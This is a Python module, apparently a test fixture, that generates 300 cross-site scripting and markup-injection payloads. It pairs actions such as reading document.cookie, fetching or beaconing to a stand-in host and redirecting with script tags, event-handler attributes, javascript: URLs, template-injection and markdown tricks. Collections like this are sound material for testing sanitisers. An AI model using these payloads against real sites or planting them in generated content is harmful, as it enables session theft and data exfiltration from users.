"""Three hundred texts that try to run as script, to fetch from elsewhere, or to be drawn as markup."""

from __future__ import annotations

from itertools import islice, product

ELSEWHERE = "http://elsewhere.example"

# What each would do: open a dialog, ask another host, or leave a mark that the test looks for.
_DEEDS = (
    "alert(1)",
    "confirm(document.cookie)",
    "prompt(document.domain)",
    f"fetch('{ELSEWHERE}/f')",
    f"new Image().src='{ELSEWHERE}/i'",
    "window.pwned=1",
    f"import('{ELSEWHERE}/m.js')",
    f"navigator.sendBeacon('{ELSEWHERE}/b')",
    f"location='{ELSEWHERE}/l'",
)
# How it is brought in; the deed stands at @.
_WAYS = (
    "<script>@</script>",
    "<ScRiPt>@</sCrIpT>",
    "</script><script>@</script>",
    '<img src=x onerror="@">',
    "<img src=x onerror=@ //",
    '<svg onload="@">',
    '<svg><animate onbegin="@" attributeName=x dur=1s>',
    "<svg><script>@</script></svg>",
    '<math><mi xlink:href="data:x,<script>@</script>">',
    '<body onload="@">',
    '<iframe src="javascript:@"></iframe>',
    '<iframe srcdoc="<script>parent.@</script>"></iframe>',
    '<details open ontoggle="@">',
    '<input autofocus onfocus="@">',
    '<video><source onerror="@"></video>',
    '<audio src=x onerror="@">',
    '<object data="javascript:@"></object>',
    '<a href="javascript:@">here</a>',
    "[here](javascript:@)",
    '![picture](x" onerror="@)',
    "<style>@import 'http://elsewhere.example/s.css';</style><b>@</b>",
    '"><script>@</script>',
    "'-@-'",
    "`-@-`",
    "${@}",
    "{{@}}",
    "{{constructor.constructor('@')()}}",
    "<template><script>@</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=@>">',
    '<!--><img src=x onerror="@">-->',
    '<x contenteditable onblur="@" tabindex=1 id=x>x</x>',
    "&lt;script&gt;@&lt;/script&gt;",
    "\u202e<script>@</script>",
)
_FETCHING = (
    f"![picture]({ELSEWHERE}/p.png)",
    f"<img src={ELSEWHERE}/p.png>",
    f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    f'<div style="background:url({ELSEWHERE}/b.png)">x</div>',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/r">',
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}/f><input name=a autofocus></form><script>document.forms[0].submit()</script>",
    f"[![x]({ELSEWHERE}/x.png)]({ELSEWHERE}/y)",
    f"<video poster={ELSEWHERE}/v.png autoplay src={ELSEWHERE}/v.mp4></video>",
)

PAYLOADS: tuple[str, ...] = (
    *_FETCHING,
    *(
        way.replace("@import", "\0").replace("@", deed).replace("\0", "@import")
        for deed, way in islice(product(_DEEDS, _WAYS), 291)
    ),
)
